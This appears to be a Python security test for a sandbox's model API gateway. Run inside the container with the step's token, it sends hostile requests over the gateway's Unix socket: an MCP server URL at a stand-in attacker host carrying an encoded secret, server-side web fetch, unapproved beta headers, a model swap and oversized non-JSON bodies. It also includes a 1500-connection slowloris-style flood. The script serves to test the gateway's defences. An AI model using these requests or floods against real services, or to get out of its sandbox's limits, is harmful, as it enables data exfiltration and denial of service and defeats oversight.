"""In the container: abuse the run's gateway, through its Unix socket, with the step's own token.

Run as `python3 - SOCKET TOKEN MODE < gateway_abuse.py` (SOCKET: the path in WAVE_SANDBOX_GATEWAY_SOCKET).
MODE `requests` sends requests that ask the provider to reach out (MCP servers, server tools, beta headers),
a request for another model, and 52 MiB of bodies that are not JSON; it prints {attack: [status, message]}.
MODE `flood` opens 1500 connections that each send half a request head and never the rest (retrying while
the socket's backlog is full), holds them 14 s, and prints how many it opened and how many the gateway closed.
"""

import http.client
import json
import socket
import sys
import time

socket_path, token, mode = sys.argv[1], sys.argv[2], sys.argv[3]
step = json.load(open("/wave/step.json"))
FLOOD_CONNECTIONS, FLOOD_HOLD_S = 1500, 14


class UnixConnection(http.client.HTTPConnection):
    def __init__(self):
        super().__init__("wave-sandbox-gateway", timeout=60)

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(self.timeout)
        self.sock.connect(socket_path)


def post(body, headers=None):
    headers = {"x-api-key": token, "content-type": "application/json", "anthropic-version": "2023-06-01",
               **(headers or {})}  # fmt: skip
    connection = UnixConnection()
    try:
        connection.request("POST", "/v1/messages", body=body, headers=headers)
        response = connection.getresponse()
        answer = response.read()
        if response.status < 400:
            return [response.status, ""]
        return [response.status, json.loads(answer).get("error", {}).get("message", "")]
    except OSError as error:
        return [None, f"{type(error).__name__}: {error}"]
    finally:
        connection.close()


def message(**fields):
    request = {"model": step["model"], "max_tokens": 64, "messages": [{"role": "user", "content": "hi"}]}
    return json.dumps({**request, **fields}).encode()


def hostile_requests():
    mcp = [{"type": "url", "url": "https://attacker.example/mcp?d=c2VjcmV0", "name": "exfil"}]
    results = {
        "mcp_servers": post(message(mcp_servers=mcp), {"anthropic-beta": "mcp-client-2025-04-04"}),
        "web_fetch": post(message(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
                          {"anthropic-beta": "web-fetch-2025-09-10"}),
        "beta_header": post(message(), {"anthropic-beta": "context-1m-2025-08-07"}),
        "wrong_model": post(message(model="claude-opus-4-1", messages=[{"role": "user", "content": "x" * 2**21}])),
    }  # fmt: skip
    not_json = b"\x01" * (4 * 1024 * 1024)
    results["not_json"] = [post(not_json)[0] for _ in range(13)]
    return results


def connect_when_accepted():
    """A connection to the socket; while its backlog is full (EAGAIN: a Unix socket does not wait), try again."""
    deadline = time.monotonic() + 10
    while True:
        connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        connection.settimeout(5)
        try:
            connection.connect(socket_path)
            return connection
        except BlockingIOError:
            connection.close()
            if time.monotonic() > deadline:
                raise
            time.sleep(0.002)


def flood():
    held, stopped_by = [], None
    for _ in range(FLOOD_CONNECTIONS):
        try:
            connection = connect_when_accepted()
            connection.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: gateway\r\nContent-Length: 100\r\n")
            held.append(connection)
        except OSError as error:
            stopped_by = f"{type(error).__name__}: {error}"
            break
    opened = len(held)
    time.sleep(FLOOD_HOLD_S)
    closed = 0
    for connection in held:
        connection.setblocking(False)
        try:
            closed += connection.recv(1) == b""
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
    return {"opened": opened, "closed_by_gateway": closed, "stopped_by": stopped_by}


print(json.dumps(hostile_requests() if mode == "requests" else flood()))
